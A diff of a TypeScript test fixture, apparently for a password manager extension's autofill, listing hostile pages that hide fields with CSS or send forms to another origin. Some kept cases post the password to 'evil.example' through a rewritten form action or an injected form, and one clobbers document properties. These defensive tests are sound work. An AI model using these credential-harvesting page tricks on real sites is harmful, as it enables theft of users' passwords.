@@ -25,8 +25,8 @@ const COVER = 'position:absolute;inset:0;width:100%;height:100%';
 const covered = (name: string, cover: string): HostilePage =>
   page(name, `<form style="position:relative;height:80px">${FIELDS}${cover}</form>`);
 
-const leading = (name: string, attributes: string, more = '', before = ''): HostilePage =>
-  page(name, `${before}<form ${attributes}>${FIELDS}${more}</form>`);
+const leading = (name: string, action: string, before = ''): HostilePage =>
+  page(name, `${before}<form action="${action}">${FIELDS}</form>`);
 
 const framed = (attributes: string): string => `<iframe ${attributes} width="400" height="200"></iframe>`;
 const quoted = (html: string): string => html.replaceAll('"', "'");
@@ -38,8 +38,6 @@ const afterLogin = (name: string, change: string): HostilePage =>
     `<form>${LOGIN}<span>${PASSWORD.replace('<input', '<input class="trap"')}</span></form>
     <script>const form = document.forms[0]; form.email.addEventListener('input', () => { ${change} });</script>`,
   );
-
-const FAR = 'position:absolute;left:-9999px';
 
 export const hostilePages = (elsewhere: string, here: string): HostilePage[] => [
   // Not rendered, invisible
@@ -71,7 +69,7 @@ export const hostilePages = (elsewhere: string, here: string): HostilePage[] => 
   within('in what is scaled away', 'transform:scale(0.01)'),
   styled('turned to its edge', 'transform:rotateY(90deg)'),
   // Off the page
-  styled('left of the page', FAR),
+  styled('left of the page', 'position:absolute;left:-9999px'),
   styled('moved off the page', 'transform:translateX(-5000px)'),
   within('below the window, and fixed', 'position:fixed;bottom:-500px'),
   page(
@@ -101,34 +99,12 @@ export const hostilePages = (elsewhere: string, here: string): HostilePage[] => 
     'under a picture',
     `<img alt="" style="${COVER}" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>">`,
   ),
-  // Forms that lead elsewhere
-  leading('leading to another origin', `action="${elsewhere}/take"`),
-  leading('leading to another origin, without a scheme', 'action="//evil.example/take"'),
-  leading('leading to a script in capitals', 'action=" JavaScript:void 0"'),
-  leading('leading to a blob', `action="blob:${here}/1"`),
-  leading('leading elsewhere by a base', 'action="take"', '', `<base href="${elsewhere}/">`),
-  leading('leading elsewhere by a base and a blank', 'action="&nbsp;"', '', `<base href="${elsewhere}/">`),
-  leading('leading elsewhere by a button', '', `<button formaction="${elsewhere}/take">Go</button>`),
-  leading('leading elsewhere by a picture', '', `<input type="image" alt="" formaction="${elsewhere}/take">`),
-  leading(
-    'leading elsewhere by a button outside',
-    'id="f"',
-    '',
-    `<button form="f" formaction="javascript:void 0">Go</button>`,
-  ),
-  page(
-    'fields of a form elsewhere',
-    `<form id="bad" action="${elsewhere}/take"></form><form>${FIELDS.replaceAll('<input', '<input form="bad"')}</form>`,
-  ),
-  leading(
-    'forging what its form is asked',
-    `action="${elsewhere}/take"`,
-    '<input type="hidden" name="action" value="/"><input type="hidden" name="getAttribute">',
-  ),
+  // Forms that lead elsewhere: the other ways are in libs/extension/src/filling/fill.spec.ts.
+  leading('leading to another origin', `${elsewhere}/take`),
+  leading('leading to a blob', `blob:${here}/1`),
   leading(
     'forging what its document is asked',
-    'action="take"',
-    '',
+    'take',
     `<base href="${elsewhere}/"><img name="baseURI" alt=""><img name="querySelectorAll" alt=""><img name="URL" alt="">`,
   ),
   // Frames
@@ -143,7 +119,6 @@ export const hostilePages = (elsewhere: string, here: string): HostilePage[] => 
   // Changing while it is filled
   afterLogin('changing where its form leads', "form.setAttribute('action', 'https://evil.example')"),
   afterLogin('hiding its password', "form.password.style.opacity = '0'"),
-  afterLogin('moving its password away', "form.password.style.cssText = 'position:absolute;left:-9999px'"),
   afterLogin(
     'putting its password into another form',
     "form.password.setAttribute('form', 'nobody'); form.insertAdjacentHTML('afterend', '<form id=nobody action=https://evil.example></form>')",
